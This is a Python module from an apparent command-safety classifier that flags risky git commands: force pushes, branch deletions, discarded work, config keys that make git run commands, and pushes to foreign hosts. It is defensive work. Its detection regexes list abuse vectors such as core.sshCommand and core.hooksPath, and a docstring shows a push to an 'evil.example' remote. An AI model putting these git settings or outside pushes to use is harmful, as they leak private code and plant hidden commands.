"""git: discarding work by path, pushes, branches, tags and settings that run commands later."""

from __future__ import annotations

import os
import re
from typing import TYPE_CHECKING

from blastdoor.classify.shell._git_hooks import hooks_redirected, skipped_hooks
from blastdoor.classify.shell._state import DYNAMIC
from blastdoor.classify.shell._walk import walk_text

if TYPE_CHECKING:
    from blastdoor.classify.shell._argv import Cmd


# -- git ---------------------------------------------------------------------------------------------

_GIT_RUNS = re.compile(
    r"(?i)^(alias\..*|core\.(pager|editor|sshcommand|hookspath|fsmonitor|askpass|gitproxy)|.*\.(command|program|helper|cmd|textconv|clean|smudge|process)|sequence\.editor|diff\.external)="
)

# Settings that change where code goes: a remote's URL, or a rewrite of every URL.
_GIT_REDIRECTS = re.compile(r"(?i)^(remote\..+\.(url|pushurl)|url\..+\.(insteadof|pushinsteadof))$")


def git(cmd: Cmd) -> None:
    """Top-level git options: ``-c key=value`` can make git run a command or hooks; so can the same
    settings given in the environment (``GIT_CONFIG_PARAMETERS``, ``GIT_CONFIG_KEY_n``/``VALUE_n``)."""
    part = cmd.part
    for how, value in _settings(cmd):
        m = _GIT_RUNS.match(value)
        if m is None:
            continue
        key, _, val = value.partition("=")
        if key.lower() == "core.hookspath":
            part.add("persist", f"`{how}` runs hooks from {val or '?'}")
            hooks_redirected(cmd, f"`{how}={val}`")
            continue
        text = val[1:] if val.startswith("!") else val
        part.add("read", f"`{how}` runs a command")
        if text:
            walk_text(text, cmd.st.child())
    skipped_hooks(cmd)
    if part.effects.keys() - {"read"}:
        _git_evidence(cmd)


def _settings(cmd: Cmd) -> list[tuple[str, str]]:
    """(how, ``key=value``) of every setting given on this command line: ``-c`` options, then the
    environment's (``_env_settings``)."""
    given = [(f"git -c {v.partition('=')[0]}", v) for o, v in cmd.opts if o == "-c" and v is not None]
    return given + _env_settings(cmd)


def _env_settings(cmd: Cmd) -> list[tuple[str, str]]:
    """(how, ``key=value``) of the settings git reads from its environment (git-config(1), ENVIRONMENT):
    ``GIT_CONFIG_PARAMETERS`` (``'key=value' 'key2=value2'``) and ``GIT_CONFIG_COUNT`` with
    ``GIT_CONFIG_KEY_<n>``/``GIT_CONFIG_VALUE_<n>``."""
    out: list[tuple[str, str]] = []
    params = cmd.env("GIT_CONFIG_PARAMETERS")
    if params:
        import shlex

        try:
            out += [("GIT_CONFIG_PARAMETERS", w) for w in shlex.split(params) if "=" in w]
        except ValueError:
            cmd.part.add("unknown", "`GIT_CONFIG_PARAMETERS` holds settings blastdoor cannot split")
    count = cmd.env("GIT_CONFIG_COUNT")
    if count and count.isdigit():
        for n in range(min(int(count), 64)):
            key, value = cmd.env(f"GIT_CONFIG_KEY_{n}"), cmd.env(f"GIT_CONFIG_VALUE_{n}")
            if key:
                out.append((f"GIT_CONFIG_KEY_{n}", f"{key}={value or ''}"))
    return out


def _git_head(cwd: str | None) -> str | None:
    if cwd is None:
        return None
    try:
        with open(os.path.join(cwd, ".git", "HEAD"), encoding="utf-8") as fh:
            head = fh.read(256).strip()
    except (OSError, ValueError):  # ValueError: a NUL byte in the path
        return None
    return head[16:] if head.startswith("ref: refs/heads/") else None


def _git_evidence(cmd: Cmd) -> None:
    part = cmd.part
    if "git_branch" not in part.evidence:
        branch = _git_head(cmd.st.cwd)
        if branch:
            part.evidence["git_branch"] = branch


def git_push(cmd: Cmd) -> None:
    part = cmd.part
    pos = [p for p in cmd.pos]
    remote = pos[0] if pos else None
    if remote:
        part.evidence["git_remote"] = remote
        part.target(f"git:remote/{remote}")
    _push_destination(cmd, remote if pos else next((v for o, v in cmd.opts if o == "--repo"), ""))
    refspecs = pos[1:]
    if not refspecs:
        branch = _git_head(cmd.st.cwd)
        if branch:
            refspecs = [branch]
    deleting = cmd.has("--delete", "-d")
    for spec in refspecs:
        if spec is None:
            part.target("git:branch/?")
            continue
        force = spec.startswith("+")
        spec = spec.lstrip("+")
        src, colon, dst = spec.partition(":")
        dst = dst if colon else src
        dst = dst.removeprefix("refs/heads/")
        if colon and not src:
            deleting = True
        if force:
            part.add("irreversible", f"`+{spec}` force-updates {dst}: remote commits can be lost")
        part.target(f"git:branch/{dst}")
        part.evidence.setdefault("git_branch", dst)
    if deleting:
        part.add("delete", "deletes a remote branch or tag")
        part.add("irreversible", "a deleted remote branch is gone for everyone")


def _push_destination(cmd: Cmd, dest: str | None) -> None:
    """A push that sends the repository somewhere it does not live is exfiltration.

    Where it lives: the hosts of its ``origin`` and ``upstream`` remotes (of every remote when it has
    neither), read from its config before the command runs. A URL or ``host:path`` on another host, a
    remote that points at one (``git remote add x https://evil.example/r.git`` earlier), a remote
    name the repository does not have yet (added in this same command) and ``git -c remote.*.url=``
    all qualify; a local path does not. Outside a repository nothing is judged (git fails there).
    """
    part = cmd.part
    for how, value in _settings(cmd):
        if _GIT_REDIRECTS.match(value.partition("=")[0]):
            part.add("exfiltrate", f"`{how}` sends this push elsewhere")
            return
    if dest is None:
        part.add("unknown", "`git push` to a destination computed at run time")
        return
    from blastdoor.classify.environment import git_remotes, home_owners, lives_at, local_git_url, repo_owner

    if not dest or local_git_url(dest) or cmd.has("--dry-run", "-n"):
        return

    remotes = git_remotes(cmd.st.nested_context())
    if remotes is None:
        return
    if _url_like(dest):
        url = dest
    elif dest in remotes:
        url = remotes[dest]
        if local_git_url(url):
            return
    else:
        part.add("exfiltrate", f"pushes to `{dest}`, a remote this repository did not have before this command")
        return
    home = home_owners(remotes)
    host, owner = repo_owner(url)
    part.evidence.setdefault("host", host)
    if not lives_at(home, host, owner):
        where = ", ".join(sorted(f"{h}/{o}" if o else h for h, o in home)) or "nowhere else"
        to = f"{host}/{owner}" if owner else host
        part.add("exfiltrate", f"pushes the repository to {to}, not where it lives ({where})")


def _url_like(dest: str) -> bool:
    """``https://host/r.git``, ``ssh://git@host/r``, ``git@host:r.git`` or ``host:r.git`` (git's scp form:
    a colon before any slash)."""
    if "://" in dest:
        return True
    head = dest.split("/", 1)[0]
    return ":" in head


def _git_path(cmd: Cmd, p: str | None) -> str:
    """A pathspec as git resolves it: relative to the directory ``-C`` options lead to (in order)."""
    base = cmd.st.cwd
    for opt, value in cmd.opts:
        if opt == "-C" and value:
            base = value if value.startswith("/") else (None if base is None else base + "/" + value)
    if p is None or (base is None and not p.startswith("/")):
        return DYNAMIC
    return cmd.st.path(p if p.startswith("/") else f"{base}/{p}")


def git_checkout(cmd: Cmd) -> None:
    part = cmd.part
    if cmd.has("-b", "-B", "--orphan"):
        part.add("create", "creates a branch")
        if cmd.pos and cmd.pos[0] is not None:  # `-b NEW START`: START's tree comes in
            from blastdoor.classify.shell._git_trees import brought_in

            brought_in(cmd, "HEAD", cmd.pos[0], f"`git checkout -b ... {cmd.pos[0]}`")
        return
    paths = cmd.pos[cmd.ddash :] if cmd.ddash >= 0 else []
    if cmd.ddash < 0 and cmd.pos:
        # `git checkout .` or `git checkout <file>`: an existing path means paths, not a branch
        cand = cmd.pos[1:] if len(cmd.pos) > 1 else cmd.pos
        paths = [p for p in cand if p is None or p == "." or os.path.exists(_git_path(cmd, p))]
    if not paths and cmd.pos and cmd.pos[0] is not None:  # a branch or commit: its tree comes in
        from blastdoor.classify.shell._git_trees import brought_in

        brought_in(cmd, "HEAD", cmd.pos[0], f"`git checkout {cmd.pos[0]}`")
    if paths or cmd.has("-f", "--force", "-p", "--patch"):
        part.add("delete", "discards uncommitted changes in the working tree (git keeps no copy)")
        part.add("irreversible", "overwrites uncommitted changes in the working tree")
        for p in paths:
            part.target(_git_path(cmd, p))


def git_restore(cmd: Cmd) -> None:
    part = cmd.part
    staged = cmd.has("--staged", "-S")
    worktree = cmd.has("--worktree", "-W")
    if worktree or not staged:
        part.add("delete", "`git restore` of the working tree discards uncommitted changes (git keeps no copy)")
        part.add("irreversible", "`git restore` of the working tree discards uncommitted changes")
    for p in cmd.pos:
        part.target(_git_path(cmd, p))


def git_branch(cmd: Cmd) -> None:
    part = cmd.part
    if cmd.has("-D") or (cmd.has("-d", "--delete") and cmd.has("-f", "--force")):
        part.drop("read")
        part.add("delete", "deletes a branch")
        part.add("irreversible", "a force-deleted branch loses its unmerged commits")
    elif cmd.has("-d", "--delete"):
        part.drop("read")
        part.add("delete", "deletes a merged branch")
    elif cmd.has("-m", "-M", "-c", "-C", "--move", "--copy", "-u", "--set-upstream-to", "--unset-upstream"):
        part.drop("read")
        part.add("write", "renames, copies or re-tracks a branch")
    elif cmd.pos and not cmd.has("-l", "--list", "-a", "-r", "--contains", "--merged", "--no-merged"):
        part.drop("read")
        part.add("create", "creates a branch")
    for p in cmd.pos:
        part.target(f"git:branch/{p if p is not None else DYNAMIC}")


def git_tag(cmd: Cmd) -> None:
    part = cmd.part
    if cmd.has("-d", "--delete"):
        part.drop("read")
        part.add("delete", "deletes a tag")
    elif cmd.pos and not cmd.has("-l", "--list", "-v", "--verify"):
        part.drop("read")
        part.add("create", "creates a tag")


def git_config(cmd: Cmd) -> None:
    part = cmd.part
    reading = cmd.has("--get", "--get-all", "--get-regexp", "-l", "--list", "--show-origin") or len(cmd.pos) < 2
    if cmd.pos and cmd.pos[0] in ("get", "list"):
        reading = True
    if reading and not cmd.has("--unset", "--unset-all", "--add", "--replace-all", "--remove-section"):
        part.only("read", "reads git configuration")
        return
    key = next((p for p in cmd.pos if p not in (None, "set", "unset")), "") or ""
    if _GIT_RUNS.match(key + "="):
        part.add("persist", f"git setting `{key}` makes git run a command later")
        if key.lower() == "core.hookspath":
            hooks_redirected(cmd, f"`git config {key}`")
    elif _GIT_REDIRECTS.match(key):
        part.add("persist", f"git setting `{key}` sends every later fetch or push elsewhere")


HANDLERS = {
    "git": git,
    "git_push": git_push,
    "git_checkout": git_checkout,
    "git_restore": git_restore,
    "git_branch": git_branch,
    "git_tag": git_tag,
    "git_config": git_config,
}
